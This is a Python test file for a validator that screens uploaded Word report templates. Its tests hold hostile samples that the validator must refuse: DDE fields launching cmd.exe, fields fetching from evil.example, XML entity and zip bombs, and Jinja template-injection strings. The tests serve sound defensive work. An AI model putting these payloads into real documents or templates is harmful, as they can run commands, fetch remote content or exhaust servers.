"""Templates that an office uploads: what is taken and what is refused, and why."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable

import docx as word_reader
import pytest

from tirek.refusals import Refusal
from tirek.reports.errors import (
    TemplateCarriesCode,
    TemplateIncomplete,
    TemplateNotWord,
    TemplateTagBroken,
    TemplateTagForbidden,
    TemplateTooLarge,
)
from tirek.reports.rendering.word import TEMPLATE, check_template

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def test_it_works() -> None:
    check_template(TEMPLATE.read_bytes())


def test_a_template_that_word_saved_with_a_table_of_contents_is_taken() -> None:
    field = _field("TOC \\o") + _field('HYPERLINK \\l "_Toc1"')
    check_template(_with_document(lambda xml: xml.replace(b"<w:sectPr", b"<w:p>" + field + b"</w:p><w:sectPr", 1)))


@pytest.mark.parametrize("content", [b"", b"hello", b"%PDF-1.7", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600])
def test_refuses_what_is_not_a_word_document(content: bytes) -> None:
    with pytest.raises(TemplateNotWord):
        check_template(content)


def test_refuses_a_zip_that_holds_something_else() -> None:
    with pytest.raises(TemplateNotWord):
        check_template(_packed({"word/document.xml": b"<a/>"}))
    with pytest.raises(TemplateNotWord):
        check_template(_packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}))


def test_refuses_a_spreadsheet_by_its_content_whatever_its_name() -> None:
    parts = _parts()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document", b"spreadsheetml.sheet"
    )
    with pytest.raises(TemplateNotWord):
        check_template(_packed(parts))


def test_refuses_a_document_cut_short_or_damaged() -> None:
    whole = TEMPLATE.read_bytes()
    damaged = bytearray(whole)
    damaged[len(whole) // 3] ^= 0xFF
    for content in (whole[: len(whole) // 2], bytes(damaged)):
        with pytest.raises(TemplateNotWord):
            check_template(content)
    with pytest.raises(TemplateNotWord):
        check_template(_with_document(lambda xml: xml.replace(b"</w:body>", b"")))


def test_refuses_a_macro_enabled_document() -> None:
    parts = _parts()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    with pytest.raises(TemplateCarriesCode, match="macroEnabled"):
        check_template(_packed(parts))


@pytest.mark.parametrize(
    "kind",
    [
        "vbaProject",
        "oleObject",
        "package",
        "control",
        "aFChunk",
        "attachedTemplate",
        "frame",
        "comments",
        "subDocument",
    ],
)
def test_refuses_a_relationship_that_brings_in_more_than_looks(kind: str) -> None:
    with pytest.raises(TemplateCarriesCode, match=kind):
        check_template(_with_relation(kind, "embeddings/it.bin"))


def test_refuses_a_picture_that_is_fetched_from_elsewhere() -> None:
    with pytest.raises(TemplateCarriesCode, match=r"tracker\.example"):
        check_template(_with_relation("image", "http://tracker.example/x.png", external=True))


def test_takes_a_link_to_the_web_and_refuses_one_to_a_file() -> None:
    check_template(_with_relation("hyperlink", "https://example.org", external=True))
    with pytest.raises(TemplateCarriesCode, match="server"):
        check_template(_with_relation("hyperlink", "file://server/share", external=True))


@pytest.mark.parametrize(
    "field",
    [
        'DDEAUTO c:\\cmd.exe "/k calc"',
        "ddeauto x y",
        "DDE x y",
        "MACROBUTTON Run click",
        'INCLUDETEXT "http://evil.example/a.docx"',
        'INCLUDEPICTURE "http://evil.example/a.png"',
        "LINK Excel.Sheet.8 a.xlsx",
        "QUOTE 68 68 69",
        "AUTHOR",
        'HYPERLINK "file://server/share"',
    ],
)
def test_refuses_a_field_that_runs_fetches_or_names(field: str) -> None:
    simple = f'<w:fldSimple w:instr="{field.replace(chr(34), "&quot;")}"/>'.encode()
    for written in (_field(field), _field(field, pieces=3), simple):
        with pytest.raises(TemplateCarriesCode):
            check_template(
                _with_document(lambda xml, it=written: xml.replace(b"<w:sectPr", b"<w:p>" + it + b"</w:p><w:sectPr"))
            )


def test_refuses_a_field_that_is_never_closed() -> None:
    opened = _field("DDEAUTO x y").split(b'<w:r><w:fldChar w:fldCharType="end"')[0]
    with pytest.raises(TemplateCarriesCode, match="DDEAUTO"):
        check_template(_with_document(lambda xml: xml.replace(b"<w:sectPr", b"<w:p>" + opened + b"</w:p><w:sectPr")))


def test_refuses_a_field_hidden_in_another() -> None:
    inner = _field("DDEAUTO x y")
    outer = _field("PAGE").replace(b"PAGE</w:instrText></w:r>", b"PAGE </w:instrText></w:r>" + inner)
    assert inner in outer
    with pytest.raises(TemplateCarriesCode, match="DDEAUTO"):
        check_template(_with_document(lambda xml: xml.replace(b"<w:sectPr", b"<w:p>" + outer + b"</w:p><w:sectPr")))


def test_refuses_tracked_changes_since_they_name_who_made_them() -> None:
    change = b'<w:p><w:ins w:id="1" w:author="Aigerim"><w:r><w:t>x</w:t></w:r></w:ins></w:p><w:sectPr'
    with pytest.raises(TemplateCarriesCode, match="author"):
        check_template(_with_document(lambda xml: xml.replace(b"<w:sectPr", change)))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_refuses_a_document_type_lest_its_entities_burst(encoding: str) -> None:
    bomb = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    )
    with pytest.raises(TemplateCarriesCode, match="DOCTYPE"):
        check_template(_packed(_parts() | {"customXml/item1.xml": bomb.encode(encoding)}))


def test_refuses_an_archive_that_unpacks_to_too_much() -> None:
    with pytest.raises(TemplateTooLarge, match="32 MB"):
        check_template(_packed(_parts() | {"word/media/a.png": b"\0" * (33 * 1024 * 1024)}))
    with pytest.raises(TemplateTooLarge, match="2 MB"):
        check_template(_packed(_parts() | {"word/a.xml": b"<a>" + b" " * (2 * 1024 * 1024) + b"</a>"}))
    with pytest.raises(TemplateTooLarge):
        check_template(_packed(_parts() | {f"word/media/{number}.png": b"" for number in range(600)}))


def test_refuses_an_archive_that_lies_about_its_size() -> None:
    bomb = bytearray(_packed(_parts() | {"word/media/a.png": b"\0" * (8 * 1024 * 1024)}))
    true_size = (8 * 1024 * 1024).to_bytes(4, "little")
    while (place := bomb.find(true_size)) >= 0:
        bomb[place : place + 4] = (100).to_bytes(4, "little")
    with pytest.raises(TemplateNotWord):
        check_template(bytes(bomb))


@pytest.mark.parametrize("tag", ["{{ title", "{% if title %}", "{{ title | }}", "{% endfor %}", "{{ progamme }}"])
def test_refuses_a_broken_tag(tag: str) -> None:
    with pytest.raises(TemplateTagBroken):
        check_template(_with_paragraph(tag))


@pytest.mark.parametrize(
    "tag",
    [
        "{{ title.__class__ }}",
        "{{ title['__class__'] }}",
        "{{ title|attr('__class__') }}",
        "{{ title.format(1) }}",
        "{{ ''.join(title) }}",
        "{{ 7 * 7 }}",
        "{{ 'a' * 1000000000 }}",
        "{{ title ~ title }}",
        "{{ [1, 2] }}",
        "{{ cycler.__init__ }}",
        "{% set x = title %}",
        "{% include 'x' %}",
        "{% import 'x' as x %}",
        "{% macro m() %}{% endmacro %}",
        "{% for a in title %}{% endfor %}",
        "{% for a in range(100000) %}{% endfor %}",
        "{% for a in figures %}{% for b in figures %}{{ b.title }}{% endfor %}{% endfor %}",
        "{% for a in figures recursive %}{{ loop(figures) }}{% endfor %}",
        "{% for a in figures %}{{ body }}{% endfor %}",
        "{{ figures[0]._x }}",
        "{{ self.x }}{{ self._TemplateReference__context }}",
    ],
)
def test_refuses_a_tag_that_does_more_than_name_a_value(tag: str) -> None:
    with pytest.raises(TemplateTagForbidden):
        check_template(_with_paragraph(tag))


@pytest.mark.parametrize("place", ["header", "footer", "author"])
def test_refuses_a_forbidden_tag_wherever_it_hides(place: str) -> None:
    template = word_reader.Document(str(TEMPLATE))
    if place == "author":
        template.core_properties.author = "{{ title.__class__ }}"
    else:
        getattr(template.sections[0], place).add_paragraph("{{ title.__class__ }}")
    with pytest.raises(TemplateTagForbidden, match="__class__"):
        check_template(_saved(template))


def test_refuses_a_tag_that_word_has_cut_into_pieces() -> None:
    template = word_reader.Document(str(TEMPLATE))
    paragraph = template.add_paragraph()
    for piece in ("{", "{ title.__cl", "ass__ }", "}"):
        paragraph.add_run(piece)
    with pytest.raises(TemplateTagForbidden, match="__class__"):
        check_template(_saved(template))


def test_refuses_a_template_full_of_braces_before_it_is_searched_for_tags() -> None:
    began = time.monotonic()
    with pytest.raises(TemplateTooLarge):
        check_template(_with_paragraph("{{r " * 100_000))
    assert time.monotonic() - began < 5


@pytest.mark.parametrize(("tag", "missing"), [("{{p body }}", "body"), ("{{ synthetic }}", "synthetic")])
def test_refuses_a_template_without_a_place_for_the_report_or_its_banner(tag: str, missing: str) -> None:
    template = word_reader.Document(str(TEMPLATE))
    for paragraph in (*template.paragraphs, *template.sections[0].header.paragraphs):
        if paragraph.text == tag:
            paragraph.text = ""
        elif "if synthetic" in paragraph.text or "endif" in paragraph.text:
            paragraph._p.getparent().remove(paragraph._p)
    with pytest.raises(TemplateIncomplete, match=missing):
        check_template(_saved(template))


@pytest.mark.parametrize("kind", ["first", "even"])
def test_refuses_a_template_with_pages_that_do_not_bear_the_banner(kind: str) -> None:
    template = word_reader.Document(str(TEMPLATE))
    section = template.sections[0]
    if kind == "first":
        section.different_first_page_header_footer = True
        section.first_page_header.paragraphs[0].text = "{{ title }}"
    else:
        template.settings.odd_and_even_pages_header_footer = True
        section.even_page_header.paragraphs[0].text = "{{ title }}"
    with pytest.raises(TemplateIncomplete, match="synthetic"):
        check_template(_saved(template))


def test_takes_a_template_whose_first_page_has_a_header_of_its_own_with_the_banner() -> None:
    template = word_reader.Document(str(TEMPLATE))
    template.sections[0].different_first_page_header_footer = True
    template.sections[0].first_page_header.paragraphs[0].text = "{{ synthetic }}"
    check_template(_saved(template))


def test_refuses_a_template_that_lacks_a_style_and_names_it() -> None:
    template = word_reader.Document(str(TEMPLATE))
    style = template.styles["Tirek Figure"]
    style.element.getparent().remove(style.element)
    with pytest.raises(TemplateIncomplete, match="Tirek Figure"):
        check_template(_saved(template))


@pytest.mark.parametrize(
    "kind", [TemplateCarriesCode, TemplateIncomplete, TemplateNotWord, TemplateTagBroken, TemplateTagForbidden]
)
def test_every_refusal_has_an_id_a_sentence_and_a_hint(kind: type[Refusal]) -> None:
    assert kind.id.startswith("template-")
    assert kind.sentence.endswith(".")
    assert kind.hint.endswith(".")


def _parts() -> dict[str, bytes]:
    with zipfile.ZipFile(TEMPLATE) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _packed(parts: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _with_document(change: Callable[[bytes], bytes]) -> bytes:
    parts = _parts()
    changed = change(parts["word/document.xml"])
    assert changed != parts["word/document.xml"]
    return _packed(parts | {"word/document.xml": changed})


def _with_relation(kind: str, target: str, *, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="rId99" Type="{RELATION}{kind}" Target="{target}"{mode}/></Relationships>'
    parts = _parts()
    name = "word/_rels/document.xml.rels"
    return _packed(parts | {name: parts[name].replace(b"</Relationships>", relation.encode())})


def _with_paragraph(text: str) -> bytes:
    template = word_reader.Document(str(TEMPLATE))
    template.add_paragraph(text)
    return _saved(template)


def _saved(document: object) -> bytes:
    saved = io.BytesIO()
    document.save(saved)  # type: ignore[attr-defined]
    return saved.getvalue()


def _field(instruction: str, pieces: int = 1) -> bytes:
    size = -(-len(instruction) // pieces)
    cut = [instruction[start : start + size] for start in range(0, len(instruction), size)]
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece.replace("&", "&amp;").replace("<", "&lt;")}</w:instrText></w:r>'
        for piece in cut
    )
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return (begin + runs + end).encode()
